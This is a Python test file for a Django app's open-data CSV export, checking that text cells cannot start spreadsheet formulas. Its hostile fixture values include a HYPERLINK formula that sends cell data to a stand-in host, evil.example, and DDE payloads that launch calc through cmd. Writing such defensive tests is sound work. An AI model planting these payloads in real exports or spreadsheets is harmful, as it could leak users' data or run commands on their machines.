"""CSV formula injection (OWASP): no text cell of an open-data CSV starts a spreadsheet formula, whatever a
source wrote in it; numbers and phone numbers stay readable (issue #17, item 4)."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command

from cartolangue.interop.formulas import SIGNED_NUMBER, neutralise_formula
from cartolangue.interop.opendata import writer
from cartolangue.interop.opendata.dictionary import TABLES
from cartolangue.offers.models import Course

pytestmark = pytest.mark.django_db

HOSTILE = {
    "structure": '=HYPERLINK("http://evil.example/?"&A1,"Inscription")',
    "place": "@SUM(1+1)*cmd|' /C calc'!A0",
    "course": "+cmd|' /C calc'!A0",
    "description": "-2+3+cmd|' /C calc'!A0",
    "cost": "\t=1+1",
    "complement": "\r=1+1",
}


@pytest.fixture
def hostile_offer(offer):
    offer.association.name = HOSTILE["structure"]
    offer.association.phone = "+33 1 34 12 34 56"
    offer.association.save()
    offer.hall.address = HOSTILE["place"]
    offer.hall.address_complement = HOSTILE["complement"]
    offer.hall.save()
    Course.objects.filter(pk=offer.evening.pk).update(
        name=HOSTILE["course"], description=HOSTILE["description"], cost_details=HOSTILE["cost"]
    )
    return offer


def _rows(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _assert_no_formula(rows, name):
    for row in rows:
        for column, value in row.items():
            if value.startswith(("=", "+", "-", "@", "\t", "\r")):
                assert SIGNED_NUMBER.fullmatch(value), f"{name}.csv, {column}: {value!r}"


def _check(files):
    structures, places, courses = (_rows(files[f"{n}.csv"]) for n in ("structures", "lieux", "cours"))
    for name, rows in files.items():
        if name.endswith(".csv"):
            _assert_no_formula(_rows(rows), name)
    association = next(r for r in structures if r["id_source"] == "lire-ensemble")
    assert association["nom"] == "'" + HOSTILE["structure"]
    assert association["telephone"] == "+33 1 34 12 34 56"  # a phone number stays readable
    hall = next(r for r in places if r["id_source"] == "maison-quartier")
    assert hall["adresse"] == "'" + HOSTILE["place"]
    assert hall["complement_adresse"] == "'" + HOSTILE["complement"]
    evening = next(r for r in courses if r["id_source"] == "fle-soir")
    assert evening["nom"] == "'" + HOSTILE["course"]
    assert evening["description"] == "'" + HOSTILE["description"]
    assert evening["cout_precisions"] == "'" + HOSTILE["cost"]
    assert evening["structure_nom"] == "'" + HOSTILE["structure"]
    assert evening["cout_euros"] == "250.00"  # an amount stays a number


def test_files_of_export_opendata_hold_no_formula(hostile_offer, tmp_path):
    call_command("export_opendata", str(tmp_path), stdout=io.StringIO())
    _check({p.name: p.read_bytes().decode("utf-8") for p in tmp_path.glob("*.csv")})


def test_streamed_csv_and_zip_hold_no_formula(hostile_offer):
    streamed = {f"{name}.csv": "".join(writer.iter_csv(table)) for name, table in TABLES.items()}
    _check(streamed)
    archive = zipfile.ZipFile(io.BytesIO(b"".join(writer.iter_zip())))
    _check({n: archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".csv")})


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),
        ("-12,5", "-12,5"),
        ("+33 1 34 12 34 56", "+33 1 34 12 34 56"),
        ("+33-1-34", "'+33-1-34"),
        ("Cours du soir = 2 h", "Cours du soir = 2 h"),
        ("", ""),
    ],
)
def test_what_is_neutralised(value, cell):
    assert neutralise_formula(value) == cell


def test_numbers_are_written_as_numbers():
    assert writer._csv_cell(Decimal("-12.50")) == "-12.50"
    assert writer._csv_cell(-3) == "-3"
    assert writer._csv_cell(["=A1", "b"]) == "'=A1|b"


def test_the_readme_says_so(offer):
    readme = writer.readme_text({})
    assert "précédée d'une apostrophe" in readme and "+33 1 23 45 67 89" in readme


def test_the_data_page_says_so(client, offer):
    html = client.get("/donnees/").content.decode()
    assert "pour qu'un tableur ne l'exécute pas comme une formule" in html.replace("&#x27;", "'")
